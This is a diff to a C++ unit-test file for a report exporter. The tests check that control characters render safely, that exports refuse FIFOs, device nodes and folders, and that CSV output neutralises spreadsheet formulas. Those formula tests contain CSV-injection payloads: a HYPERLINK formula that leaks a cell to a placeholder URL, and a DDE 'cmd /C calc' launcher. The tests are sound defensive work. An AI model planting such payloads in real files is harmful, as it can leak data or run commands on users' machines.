@@ -13,6 +13,11 @@
 
 #include <gtest/gtest.h>
 
+#include <cerrno>
+#include <cstring>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+
 namespace {
 
 std::vector<std::string> Names(const TReportDefinition& R) {
@@ -116,11 +121,67 @@ TEST(Report, ExportBytes) {
               std::string::npos)
         << Html;
 
-    // Bytes that are not UTF-8 and control characters do not break the documents.
+    // Bytes that are not UTF-8 and control characters do not break the documents; the controls
+    // show as their pictures (a tab stays a tab in the text export), blanks stay, runs of them
+    // too, and only the CSV keeps a newline (inside its quotes).
     TReportDefinition Bad;
-    Bad.Entries = {{"bad\xFF\nname", "/p"}};
-    EXPECT_EQ(ExportText(Bad), "Report\n\nbad\xEF\xBF\xBD\xEF\xBF\xBDname  /p\n");
-    EXPECT_NE(ExportCsv(Bad).find("\r\n\"bad\xEF\xBF\xBD\nname\",\"/p\"\r\n"), std::string::npos);
+    Bad.Entries = {{"bad\xFF\nname", "/p/a\tb  \x7F"}};
+    const std::string Lf = "\xE2\x90\x8A", Tab = "\xE2\x90\x89", Del = "\xE2\x90\xA1";
+    EXPECT_EQ(ExportText(Bad), "Report\n\nbad\xEF\xBF\xBD" + Lf + "name  /p/a\tb  " + Del + "\n");
+    EXPECT_NE(ExportCsv(Bad).find("\r\n\"bad\xEF\xBF\xBD\nname\",\"/p/a\tb  \x7F\"\r\n"),
+              std::string::npos);
+    EXPECT_NE(
+        ExportHtml(Bad).find("<td>bad\xEF\xBF\xBD" + Lf + "name</td><td>/p/a" + Tab + "b  " + Del),
+        std::string::npos);
+    EXPECT_NE(ExportHtml(Bad).find("white-space: pre-wrap"), std::string::npos);
+    EXPECT_NE(ExportRtf(Bad).find("bad\\u-3?\\u9226?name\\cell /p/a\\u9225?b  \\u9249?\\cell"),
+              std::string::npos)
+        << ExportRtf(Bad);
+    EXPECT_EQ(ReportText("a\tb\x01 \x1F"), QString::fromUtf8("a\u2409b\u2401 \u241F"));
+
+    // Cells a spreadsheet would take for formulas are text there; the other exports stay exact.
+    TReportDefinition Formulas;
+    Formulas.Entries = {{"=HYPERLINK(\"http://x/\"&A1,\"Click\")", "+cmd|' /C calc'!A0"},
+                        {"-2+3", "@SUM(A1)"},
+                        {"\tx", "\ry"},
+                        {"a=b", "/p/-x"}};
+    EXPECT_EQ(ExportCsv(Formulas), "\xEF\xBB\xBF\"Name\",\"FileName\"\r\n"
+                                   "\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"Click\"\")\","
+                                   "\"'+cmd|' /C calc'!A0\"\r\n"
+                                   "\"'-2+3\",\"'@SUM(A1)\"\r\n"
+                                   "\"'\tx\",\"'\ry\"\r\n"
+                                   "\"a=b\",\"/p/-x\"\r\n");
+    const std::string Text = ExportText(Formulas);
+    EXPECT_NE(Text.find("\n=HYPERLINK(\"http://x/\"&A1,\"Click\")  +cmd|' /C calc'!A0\n"),
+              std::string::npos)
+        << Text;
+}
+
+TEST(Report, ExportsWriteRegularFilesAndNewNamesOnly) {
+    TempDir Dir;
+    const TReportDefinition R = Tricky();
+    // A new name and an old regular file are written; a FIFO, a device or a folder never is,
+    // whatever the format.
+    ASSERT_TRUE(SaveReport(R, refCsv, QString::fromStdString(Dir / "new.csv")));
+    EXPECT_EQ(ReadFile(Dir / "new.csv"), ExportCsv(R));
+    WriteFile(Dir / "old.txt", "old");
+    ASSERT_TRUE(SaveReport(R, refText, QString::fromStdString(Dir / "old.txt")));
+    EXPECT_EQ(ReadFile(Dir / "old.txt"), ExportText(R));
+    ASSERT_EQ(::mkfifo((Dir / "fifo").c_str(), 0666), 0);
+    MakeDir(Dir / "folder");
+    std::vector<std::string> Refused = {"fifo", "folder"};
+    // Device nodes can be made only by root, which is how the suite runs in CI.
+    if (::mknod((Dir / "null").c_str(), S_IFCHR | 0666, makedev(1, 3)) == 0)
+        Refused.push_back("null");
+    else
+        ADD_FAILURE() << "no device node (the suite must run as root): " << std::strerror(errno);
+    for (const std::string& Name : Refused)
+        for (TReportExportFormat F : {refText, refCsv, refPdf}) {
+            EXPECT_THROW(SaveReport(R, F, QString::fromStdString(Dir / Name)), Exception) << Name;
+            struct stat St {};
+            ASSERT_EQ(::lstat((Dir / Name).c_str(), &St), 0);
+            EXPECT_FALSE(S_ISREG(St.st_mode)) << Name;
+        }
 }
 
 TEST(Report, PaginatesOntoPdf) {
